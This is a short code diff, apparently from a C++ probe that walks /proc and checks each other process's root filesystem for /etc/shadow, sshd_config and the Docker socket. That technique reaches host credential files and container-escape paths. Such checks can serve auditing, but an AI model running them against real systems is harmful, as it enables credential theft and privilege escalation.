@@ -61,8 +61,8 @@ extern "C" int look() {
   if (DIR *list = opendir("/proc")) {
     while (dirent *entry = readdir(list)) {
       if (entry->d_name[0] < '1' || entry->d_name[0] > '9' || atoi(entry->d_name) == getpid()) continue;
-      std::string base = std::string("/proc/") + entry->d_name;
-      for (const char *tail : {"/root/etc/shadow", "/root/root/.bashrc", "/root/var/run/docker.sock"})
+      std::string base = std::string("/proc/") + entry->d_name + "/root";
+      for (const char *tail : {"/etc/shadow", "/etc/ssh/sshd_config", "/var/run/docker.sock"})
         found += tell(base + tail);
     }
     closedir(list);
